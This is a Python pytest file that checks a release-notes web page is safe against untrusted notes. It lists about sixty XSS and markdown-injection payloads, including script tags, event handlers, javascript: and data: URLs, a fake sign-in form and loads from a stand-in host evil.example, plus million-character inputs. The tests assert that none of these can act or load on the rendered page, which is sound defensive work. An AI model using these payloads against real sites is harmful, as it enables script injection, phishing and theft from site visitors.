"""Release notes that attack, on the page where readers meet them."""

import pytest
from lxml import html as lxml_html

from fakes.values import a_release
from fakes.web_site import MOON, WebSite

EVIL = "https://evil.example/x"
ACT = "alert(1)"
PAYLOADS = [
    f"<script>{ACT}</script>",
    f"<SCRIPT SRC={EVIL}></SCRIPT>",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    f"<script\n>{ACT}</script\n>",
    f"</main><script>{ACT}</script>",
    f"<img src=x onerror={ACT}>",
    f'<img src="{EVIL}">',
    f"<svg onload={ACT}>",
    f"<svg><animate onbegin={ACT} attributeName=x></svg>",
    f"<svg><use href='{EVIL}#x'/></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><a title='--&gt;&lt;x onerror={ACT}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
    f"<template><img src=x onerror={ACT}></template>",
    f"<iframe srcdoc='<script>{ACT}</script>'></iframe>",
    f"<object data={EVIL}></object>",
    f"<embed src={EVIL}>",
    f"<video><source onerror={ACT}></video>",
    f"<audio src={EVIL} autoplay></audio>",
    f"<body onload={ACT}>",
    f"<details open ontoggle={ACT}>x</details>",
    f"<input autofocus onfocus={ACT}>",
    f"<form action={EVIL}><button>Sign in</button></form>",
    f"<a href={EVIL} target=_blank onclick={ACT}>x</a>",
    "<style>@import 'https://evil.example/x.css';</style>",
    f"<p style='background:url({EVIL})'>x</p>",
    f"<link rel=stylesheet href={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "<base href=https://evil.example/>",
    f"[a](javascript:{ACT})",
    f"[a](JAVASCRIPT:{ACT})",
    f"[a](java\tscript:{ACT})",
    f"[a](<java\nscript:{ACT}>)",
    f"[a](\x01javascript:{ACT})",
    f"[a](&#x6A;avascript:{ACT})",
    f"[a](javascript&colon;{ACT})",
    f"[a](javascript://%0a{ACT})",
    f"[a](vbscript:{ACT})",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[a](view-source:javascript:{ACT})",
    "[a](file:///etc/passwd)",
    "[a](/api/hook)",
    "[a](//evil.example)",
    "[a](\\\\evil.example)",
    f"[a]: javascript:{ACT}\n\n[a]",
    f"<javascript:{ACT}>",
    f"![x]({EVIL}.png)",
    f"![x](javascript:{ACT})",
    f'![x]({EVIL}.png "" onerror={ACT})',
    f"[![x]({EVIL}.png)](javascript:{ACT})",
    f"[x](https://x.example '\"onmouseover={ACT} x=')",
    f"| a |\n|---|\n| <img src=x onerror={ACT}> |",
    f"```\n</code></pre><script>{ACT}</script>\n```",
    f"`</code><script>{ACT}</script>`",
    f"# <script>{ACT}</script>\n{ACT}\n===",
    f"&lt;script&gt;{ACT}&lt;/script&gt;",
    f"<!--><script>{ACT}</script>-->",
    f"<![CDATA[<script>{ACT}</script>]]>",
    f"<?xml version='1.0'?><script>{ACT}</script>",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7}",
    "\u202e\x00\x1b[2J\ufeff",
]
ENDLESS = ["x" * 10**6, "[" * 10**6, "<a " * 300_000, "*a_" * 300_000, "&" * 10**6, ""]
OUTSIDE = ("https://", "http://", "mailto:")


@pytest.fixture
def page_with(site, read):
    """The page of a release with such notes."""

    def call(notes):
        site.shelve(a_release(notes=notes))
        answer = site.client.get(f"/{MOON}/1")
        assert answer.status_code == 200
        return read(answer)

    return call


@pytest.fixture(scope="module")
def honest():
    """The page of a release with harmless notes, as what stands on it."""
    site = WebSite()
    site.shelve(a_release(notes="Nothing special."))
    return found(lxml_html.document_fromstring(site.client.get(f"/{MOON}/1").text))


def found(page):
    """Everything on a page that can act, load something, or lead into the site."""
    ways = [href for href in page.xpath("//a/@href") if not href.startswith(OUTSIDE)]
    loads = page.xpath("//@src | //@srcset | //@data | //@poster | //link/@href")
    acts = page.xpath("//@*[starts-with(name(), 'on')] | //@style | //@srcdoc")
    return sorted(ways), loads, acts, len(page.xpath("//script | //style | //form | //svg"))


@pytest.mark.case("D15", "T29")
@pytest.mark.parametrize("notes", PAYLOADS)
def test_notes_can_neither_act_nor_load_nor_pose_as_ours(page_with, honest, notes):
    assert found(page_with(notes)) == honest


@pytest.mark.case("D15", "T29")
@pytest.mark.parametrize("notes", ENDLESS, ids=lambda notes: repr(notes[:3]))
def test_a_page_with_endless_notes_is_there_and_ends(site, notes):
    site.shelve(a_release(notes=notes))

    answer = site.client.get(f"/{MOON}/1")

    assert answer.status_code == 200
    assert len(answer.data) < 500_000


def test_there_are_enough_attacks():
    assert len(set(PAYLOADS)) >= 40
